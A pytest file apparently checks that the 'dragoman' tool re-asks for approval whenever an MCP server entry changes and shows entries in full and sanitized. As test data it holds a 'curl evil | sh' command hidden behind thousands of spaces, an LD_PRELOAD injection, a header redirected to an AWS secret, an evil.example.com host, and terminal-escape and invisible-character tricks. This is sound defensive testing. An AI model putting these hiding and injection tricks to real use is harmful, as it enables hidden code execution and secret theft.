"""T51: An approval applies to exactly the entry that was shown, and the entry is shown completely."""

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.cli.approval_questions import entry_lines, plain_json
from dragoman.config import approval
from dragoman.config.model import fingerprint
from tests.e2e.forked import run
from tests.e2e.person import Person
from tests.torture import projects
from tests.torture.projects import Canary, eligibilities, servers, write

pytestmark = pytest.mark.requirement("CFG-8")

Entry = dict[str, Any]

LOCAL: Entry = {
    "command": "tool",
    "args": ["--read-only", "${FOLDER}", "plain"],
    "env": {"TOKEN": "${TOKEN}", "MODE": "safe"},
    "cwd": "/srv",
    "timeout": 1000,
}
REMOTE: Entry = {
    "type": "http",
    "url": "https://box.example.com/mcp?team=${TEAM}",
    "headers": {"Authorization": "Bearer ${TOKEN}", "X-Mode": "safe"},
    "headersHelper": "/usr/bin/helper --quiet",
    "oauth": {"clientId": "me", "scopes": ["read"]},
}


def put(*path: Any) -> Callable[[Any], Callable[[Entry], None]]:
    *way, last = path

    def value_is(value: Any) -> Callable[[Entry], None]:
        def change(entry: Entry) -> None:
            place: Any = entry
            for step in way:
                place = place[step]
            place[last] = value

        return change

    return value_is


def drop(*path: Any) -> Callable[[Entry], None]:
    *way, last = path

    def change(entry: Entry) -> None:
        place: Any = entry
        for step in way:
            place = place[step]
        del place[last]

    return change


def become(other: Entry) -> Callable[[Entry], None]:
    def change(entry: Entry) -> None:
        entry.clear()
        entry.update(copy.deepcopy(other))

    return change


MUTATIONS: dict[str, tuple[Entry, Callable[[Entry], None]]] = {
    "another command": (LOCAL, put("command")("other")),
    "the command's case": (LOCAL, put("command")("Tool")),
    "a path instead of a name": (LOCAL, put("command")("./tool")),
    "a space after the command": (LOCAL, put("command")("tool ")),
    "an argument more": (LOCAL, lambda entry: entry["args"].append("--write")),
    "an empty argument more": (LOCAL, lambda entry: entry["args"].append("")),
    "an argument less": (LOCAL, drop("args", 0)),
    "no arguments": (LOCAL, drop("args")),
    "arguments in another order": (LOCAL, lambda entry: entry["args"].reverse()),
    "an argument's case": (LOCAL, put("args", 0)("--Read-only")),
    "two arguments become one": (LOCAL, put("args")(["--read-only ${FOLDER}", "plain"])),
    "a look-alike letter": (LOCAL, put("args", 2)("pl\u0430in")),
    "an invisible character": (LOCAL, put("args", 2)("pl\u200bain")),
    "a decomposed character": (LOCAL, put("args", 2)("plai\u0301n")),
    "another variable": (LOCAL, put("args", 1)("${HOME}")),
    "a default for the variable": (LOCAL, put("args", 1)("${FOLDER:-/}")),
    "the variable's value written out": (LOCAL, put("args", 1)("/home/me")),
    "a number instead of a text": (LOCAL, put("env", "MODE")(1)),
    "another variable for the child": (LOCAL, put("env", "LD_PRELOAD")("/tmp/x.so")),
    "a variable's value": (LOCAL, put("env", "MODE")("unsafe")),
    "a variable's source": (LOCAL, put("env", "TOKEN")("${TOKEN2}")),
    "a variable less": (LOCAL, drop("env", "MODE")),
    "a variable's name in another case": (LOCAL, put("env")({"token": "${TOKEN}", "MODE": "safe"})),
    "two variables change places": (LOCAL, put("env")({"TOKEN": "safe", "MODE": "${TOKEN}"})),
    "another folder": (LOCAL, put("cwd")("/srv2")),
    "no folder": (LOCAL, drop("cwd")),
    "another time limit": (LOCAL, put("timeout")(1001)),
    "the time limit as a text": (LOCAL, put("timeout")("1000")),
    "a type said aloud": (LOCAL, put("type")("stdio")),
    "a URL beside the command": (LOCAL, put("url")("https://box.example.com/")),
    "fewer tools": (LOCAL, put("enabledTools")(["read"])),
    "an unknown field": (LOCAL, put("somethingNew")(True)),
    "an unknown field that says nothing": (LOCAL, put("somethingNew")(None)),
    "another type": (REMOTE, put("type")("sse")),
    "another host": (REMOTE, put("url")("https://evil.example.com/mcp?team=${TEAM}")),
    "another scheme": (REMOTE, put("url")("http://box.example.com/mcp?team=${TEAM}")),
    "another path": (REMOTE, put("url")("https://box.example.com/mcp2?team=${TEAM}")),
    "the path's case": (REMOTE, put("url")("https://box.example.com/MCP?team=${TEAM}")),
    "another query": (REMOTE, put("url")("https://box.example.com/mcp?team=${HOME}")),
    "a header more": (REMOTE, put("headers", "X-More")("1")),
    "a header's value": (REMOTE, put("headers", "X-Mode")("unsafe")),
    "a header's variable": (REMOTE, put("headers", "Authorization")("Bearer ${AWS_SECRET_ACCESS_KEY}")),
    "a header less": (REMOTE, drop("headers", "X-Mode")),
    "another helper": (REMOTE, put("headersHelper")("/usr/bin/helper")),
    "no helper": (REMOTE, drop("headersHelper")),
    "another client": (REMOTE, put("oauth", "clientId")("you")),
    "more scopes": (REMOTE, put("oauth", "scopes")(["read", "write"])),
    "a command in its place": (REMOTE, become(LOCAL)),
}


def mutated(what: str) -> tuple[Entry, Entry]:
    before, change = MUTATIONS[what]
    after = copy.deepcopy(before)
    change(after)
    assert after != before
    return before, after


FILES = [".mcp.json", ".dragoman/settings.local.json"]


def approved(home: Path, before: Entry, file: str = FILES[0]) -> Path:
    path = write(home / "work" / file, servers(box=before))
    projects.approve(path, "box")
    assert state_of_box() == "approved"
    return path


def state_of_box() -> str:
    configuration = projects.seen()
    answer = configuration.entry_checks.approval(configuration.servers["box"].candidate)
    assert answer is not None
    return answer.state


def check_mutation(home: Path, what: str, file: str = FILES[0]) -> None:
    before, after = mutated(what)
    path = approved(home, before, file)

    write(path, servers(box=after))

    assert state_of_box() == "pending"
    assert eligibilities()["box"] == "pending"


@pytest.mark.parametrize("file", FILES, ids=["project", "local"])
@pytest.mark.parametrize("what", MUTATIONS)
def test_t51_any_change_of_an_approved_entry_makes_it_pending(home: Path, what: str, file: str):
    check_mutation(home, what, file)


@pytest.mark.parametrize("what", MUTATIONS)
def test_t51_an_entry_changed_back_is_approved_again(home: Path, what: str):
    before, after = mutated(what)
    path = approved(home, before)
    write(path, servers(box=after))
    assert state_of_box() == "pending"

    write(path, servers(box=before))

    assert state_of_box() == "approved"


@pytest.mark.parametrize("what", MUTATIONS)
def test_t51_a_mutant_that_approves_by_name_is_detected(
    home: Path, what: str, monkeypatch: pytest.MonkeyPatch
):
    def same_for_all(entry: object) -> str:
        return "same"

    monkeypatch.setattr(approval, "fingerprint", same_for_all)
    with pytest.raises(AssertionError):
        check_mutation(home, what)


@pytest.mark.parametrize("before", [LOCAL, REMOTE], ids=["local", "remote"])
def test_t51_order_of_keys_and_white_space_need_no_new_approval(home: Path, before: Entry):
    path = approved(home, before)

    def turned(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: turned(item) for key, item in reversed(value.items())}  # type: ignore[reportUnknownVariableType]
        return value

    for text in (
        json.dumps(turned(servers(box=before))),
        json.dumps(servers(box=before), indent="\t").replace("\n", "\r\n"),
        json.dumps(servers(aa={"command": "x"}, box=before, zz={"command": "y"}), separators=(",", ":")),
        json.dumps(servers(box=before)).replace("/", "\\/").replace("o", "\\u006f"),
    ):
        path.write_text(text)
        assert state_of_box() == "approved"


def test_t51_the_same_entry_under_another_name_is_another_server(home: Path):
    path = approved(home, LOCAL)
    write(path, servers(box=LOCAL, box2=LOCAL, Box=LOCAL))
    assert (eligibilities()["box2"], eligibilities()["Box"]) == ("pending", "pending")


def test_t51_a_rejection_applies_to_exactly_one_entry_too(home: Path):
    path = write(home / "work" / ".mcp.json", servers(box=LOCAL))
    assert run("mcp", "approve", "box", "--no").returncode == 0
    assert eligibilities()["box"] == "rejected"
    write(path, servers(box={**LOCAL, "cwd": "/"}))
    assert eligibilities()["box"] == "pending"


@pytest.mark.parametrize(
    "what", ["an argument more", "a variable's source", "a header's variable", "no helper"]
)
def test_t51_the_question_shows_the_changes(home: Path, what: str):
    before, after = mutated(what)
    write(approved(home, before), servers(box=after))

    done = run("mcp", "approve", "box")

    assert done.returncode == 3
    assert "approved before, and has changed" in done.stderr
    changed = {key for key in before | after if before.get(key) != after.get(key)}
    for key in changed & before.keys():
        assert f"- {key}: {plain_json(before[key])}" in done.stderr
    for key in changed & after.keys():
        assert f"+ {key}: {plain_json(after[key])}" in done.stderr
    for key in after.keys() - changed:
        assert f"  {key}: {plain_json(after[key])}" in done.stderr


@pytest.mark.parametrize("what", ["an argument more", "another variable for the child", "another folder"])
def test_t51_a_changed_entry_is_not_started_before_a_new_approval(home: Path, what: str):
    canary = Canary(home / "canary")
    entry = canary.entry("box", env={"MODE": "safe"}, cwd=str(home))
    path = approved(home, entry)
    _, change = MUTATIONS[what]
    after = copy.deepcopy(entry)
    change(after)
    after["cwd"] = str(home / "work") if "folder" in what else after["cwd"]
    write(path, servers(box=after))

    for words in (["tools"], ["mcp", "list"], ["mcp", "get", "box"], ["call", "mcp__box__echo"]):
        run(*words)
        assert canary.started == set(), words

    assert run("mcp", "approve", "box", "--yes").returncode == 0
    run("tools")
    assert canary.started == {"box"}


def test_t51_a_name_approved_in_the_persons_file_is_bound_to_the_entry_at_its_first_start(home: Path):
    canary = Canary(home / "canary")
    projects.user(home, {"enabledMcpjsonServers": ["box"]})
    path = write(home / "work" / ".mcp.json", servers(box=canary.entry("first")))
    run("tools")
    assert canary.started == {"first"}

    write(path, servers(box=canary.entry("second")))
    run("tools")

    assert canary.started == {"first"}
    assert eligibilities()["box"] == "pending"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-9, 9) | st.floats(allow_nan=False) | st.text(max_size=3),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)


@given(json_values, json_values)
def test_t51_two_entries_have_the_same_fingerprint_only_if_they_are_the_same_json(one: Any, other: Any):
    same = json.dumps(one, sort_keys=True) == json.dumps(other, sort_keys=True)
    assert (fingerprint(one) == fingerprint(other)) == same
    assert fingerprint(json.loads(json.dumps(one))) == fingerprint(one)


# --- what the question shows ---

HIDDEN: dict[str, tuple[str, str]] = {
    "a screen of spaces": (" " * 5000 + "; curl evil | sh", " " * 5000 + "; curl evil | sh"),
    "right to left": ("a\u202ehs.live", "a\\u202ehs.live"),
    "isolates": ("\u2066a\u2069", "\\u2066a\\u2069"),
    "braille blanks": ("a\u2800\u2800b", "a\\u2800\\u2800b"),
    "carriage return": ("evil\rharmless", "evil\\rharmless"),
    "new lines": ("evil" + "\n" * 200 + "x", "evil" + "\\n" * 200 + "x"),
    "tabs": ("a" + "\t" * 500 + "b", "a" + "\\t" * 500 + "b"),
    "NUL": ("a\0b", "a\\u0000b"),
    "escape sequences": ("\x1b[2K\x1b[1A\x9b2J", "\\u001b[2K\\u001b[1A\\u009b2J"),
    "backspaces": ("evil\b\b\b\bgood\x7f", "evil\\b\\b\\b\\bgood\\u007f"),
    "zero width": ("e\u200bv\u200di\ufeffl", "e\\u200bv\\u200di\\ufeffl"),
    "tags": ("\U000e0041", "\\udb40\\udc41"),
    "look-alikes": ("\u0435vil", "\\u0435vil"),
    "combining marks": ("a" + "\u0336" * 300, "a" + "\\u0336" * 300),
    "what looks like an escape": ("\\u202e", "\\\\u202e"),
    "quotes": ('x", "y', 'x\\", \\"y'),
    "half a pair": ("a\ud800b", "a\\ud800b"),
    "a long text": ("x" * 190_000, "x" * 190_000),
}


@pytest.mark.parametrize("what", HIDDEN)
def test_t51_no_part_of_an_entry_can_be_hidden(what: str):
    text, shown = HIDDEN[what]
    entry = {"command": text, "args": [text], "env": {text: text}, text: text}
    lines = "\n".join(entry_lines(entry))
    assert lines.count(shown) == 6
    assert all(" " <= char <= "~" or char == "\n" for char in lines)
    assert len(lines.split("\n")) == 4


@pytest.mark.parametrize("words", [["mcp", "approve"], ["mcp", "list", "--json"], ["config", "explain"]])
@pytest.mark.parametrize("what", HIDDEN)
def test_t51_no_text_breaks_the_commands_that_print_it(home: Path, what: str, words: list[str]):
    text, shown = HIDDEN[what]
    write(home / "work" / ".mcp.json", servers(box={"command": "tool", "args": [text]}, other=LOCAL))

    done = run(*words)

    assert "Traceback" not in done.stderr
    assert "other" in done.stdout + done.stderr
    assert not set("\x1b\r\b\0\x9b\u202e\u200b\u2800") & set(done.stdout + done.stderr)
    if words == ["mcp", "approve"]:
        assert shown in done.stderr


@pytest.mark.parametrize(
    "what", ["a screen of spaces", "right to left", "carriage return", "escape sequences"]
)
def test_t51_in_a_terminal_the_complete_entry_is_shown_before_the_question(home: Path, what: str):
    text, shown = HIDDEN[what]
    write(home / "work" / ".mcp.json", servers(box={"command": "tool", "args": [text]}))
    with Person("mcp", "approve") as person:
        keys = "y/n/l/v" if len(shown) > 400 else "y/n/l"
        if keys.endswith("v"):
            whole = len(f"  args: {plain_json([text])}")
            assert f"… [{whole} characters in all]" in joined(person.answers(keys, "v"))
        output = joined(person.answers(keys, "l"))
        person.ends()
    assert shown in output
    assert text not in output or text == shown
    assert state_of_box() == "pending"


def joined(output: str) -> str:
    """The output, with wrapped lines joined."""
    return output.replace("\n        ", "")


def test_t51_a_hostile_name_is_shown_sanitized(home: Path):
    write(home / "work" / ".mcp.json", servers(**{"a\u202e\x1b[2Jb\rc": {"command": "tool"}}))
    done = run("mcp", "approve")
    assert "a\\u202e\\x1b[2Jb\\x0dc" in done.stderr
    assert not set("\x1b\r\u202e") & set(done.stderr)
